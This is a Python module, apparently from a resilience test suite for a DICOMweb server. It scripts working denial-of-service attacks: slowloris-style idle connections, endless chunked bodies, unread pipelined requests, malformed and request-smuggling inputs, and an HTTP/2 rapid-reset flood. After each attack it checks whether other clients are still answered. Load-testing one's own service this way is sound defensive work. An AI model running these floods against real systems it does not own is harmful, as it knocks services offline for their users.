"""What attackers do to the web services; others who ask over HTTP are served meanwhile."""

from __future__ import annotations

import ssl
import time
from collections.abc import Callable
from contextlib import ExitStack, suppress
from typing import Final

from h2.config import H2Configuration
from h2.connection import H2Connection

from attacks.attacks import Attack, many, opened
from attacks.peer import Closed, Peer, Target, summed_up

#: Of somebody else, meanwhile.
_QUESTIONS: Final = 5
_GET: Final = b"GET /dicomweb/studies HTTP/1.1\r\nHost: localhost\r\n"
_POST: Final = (
    b"POST /dicomweb/studies HTTP/1.1\r\nHost: localhost\r\n"
    b'Content-Type: multipart/related; type="application/dicom"; boundary=b\r\n'
)
_MALFORMED: Final = (
    b"GET / HTTP/1.1\r\n\r\n",
    b"GET / HTTP/1.1\nHost: x\n\n",
    b"GET /\x1b[31m HTTP/1.1\r\nHost: x\r\n\r\n",
    b"FORGED\r\n\nFORGED\r\n\r\n",
    b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n",
    b"GET / HTTP/1.1\r\nHost: x\r\nX: " + b"a" * 20_000 + b"\r\n\r\n",
    b"\x16\x03\x01\x02\x00\x01",
    bytes(2_000),
)


def _status(peer: Peer) -> str:
    """Of the next answer."""
    line = b""
    while not line.endswith(b"\r\n"):
        line += peer._exactly(1)
    return line.split(b" ")[1].decode("ascii", "replace") if line.count(b" ") else "no HTTP"


def _others(target: Target) -> str:
    """Somebody else, who only wants to know what there is."""
    fates = []
    for _ in range(_QUESTIONS):
        try:
            with Peer(target.http_port) as peer:
                peer.send(_GET, b"Connection: close\r\n\r\n")
                fates.append(_status(peer))
        except Closed as closed:
            fates.append(str(closed))
    return f"others: {summed_up(fates)}"


_OTHERS: Final = f"others: {_QUESTIONS} × 200$"


def idle_clients(target: Target, scale: float) -> str:
    with ExitStack() as stack:
        silent = opened(stack, target.http_port, many(1_000, scale))
        half = opened(stack, target.http_port, many(300, scale))
        for peer in half:
            with suppress(Closed):
                peer.send(_GET[:-10])
        return f"{len(silent) + len(half)} opened; {_others(target)}"


def endless_bodies(target: Target, scale: float) -> str:
    """Objects that never end, by many at once."""
    piece = b"8000\r\n" + bytes(0x8000) + b"\r\n"
    sent = 0
    with ExitStack() as stack:
        peers = opened(stack, target.http_port, many(20, scale))
        for peer in peers:
            with suppress(Closed):
                part = b"--b\r\nContent-Type: application/dicom\r\n\r\n"
                peer.send(_POST, b"Transfer-Encoding: chunked\r\n\r\n")
                peer.send(b"%x\r\n%b\r\n" % (len(part), part))
        until = time.monotonic() + 5 * scale
        while time.monotonic() < until:
            for peer in peers:
                with suppress(Closed):
                    peer.send(piece)
                    sent += len(piece)
        return f"{sent >> 20} MiB; {_others(target)}"


def answers_not_read(target: Target, scale: float) -> str:
    asked = 0
    with ExitStack() as stack:
        peers = opened(stack, target.http_port, many(30, scale))
        for peer in peers:
            peer.sock.settimeout(0.2)
            with suppress(Closed):
                while asked < 1_000_000:
                    peer.send((_GET + b"\r\n") * 500)
                    asked += 500
        return f"{asked:,} asked; {_others(target)}"


def malformed_requests(target: Target, scale: float) -> str:
    fates = []
    for number in range(many(1_000, scale)):
        try:
            with Peer(target.http_port) as peer:
                peer.send(_MALFORMED[number % len(_MALFORMED)])
                fates.append(_status(peer))
        except Closed as closed:
            fates.append(str(closed))
    return f"{summed_up(fates)}; {_others(target)}"


def rapid_reset(target: Target, scale: float) -> str:
    """HTTP/2 requests that are begun and taken back, on one connection after the other."""
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    begun = 0
    for _ in range(many(50, scale)):
        with Peer(target.https_port) as peer, suppress(OSError, Closed):
            tls = context.wrap_socket(peer.sock)
            client = H2Connection(H2Configuration(client_side=True, header_encoding="latin-1"))
            client.initiate_connection()
            fields = [
                (":method", "GET"),
                (":path", "/dicomweb/studies"),
                (":scheme", "https"),
                (":authority", "localhost"),
            ]
            for number in range(1_000):
                client.send_headers(1 + 2 * number, fields, end_stream=True)
                client.reset_stream(1 + 2 * number)
                begun += 1
                if number % 50 == 49:
                    tls.sendall(client.data_to_send())
            tls.close()
    return f"{begun:,} begun; {_others(target)}"


def _attack(name: str, title: str, play: Callable[[Target, float], str]) -> Attack:
    return Attack(name, title, play, _OTHERS, needs_ours=True)


WEB_ATTACKS: Final = (
    _attack("http-idle", "1,300 clients that say nothing, or half a request", idle_clients),
    _attack("http-bodies", "20 objects without an end, over HTTP", endless_bodies),
    _attack("http-unread", "30 clients that ask and never read", answers_not_read),
    _attack("http-malformed", "requests that are none, by the thousand", malformed_requests),
    _attack("http2-reset", "HTTP/2 requests taken back, by the thousand", rapid_reset),
)
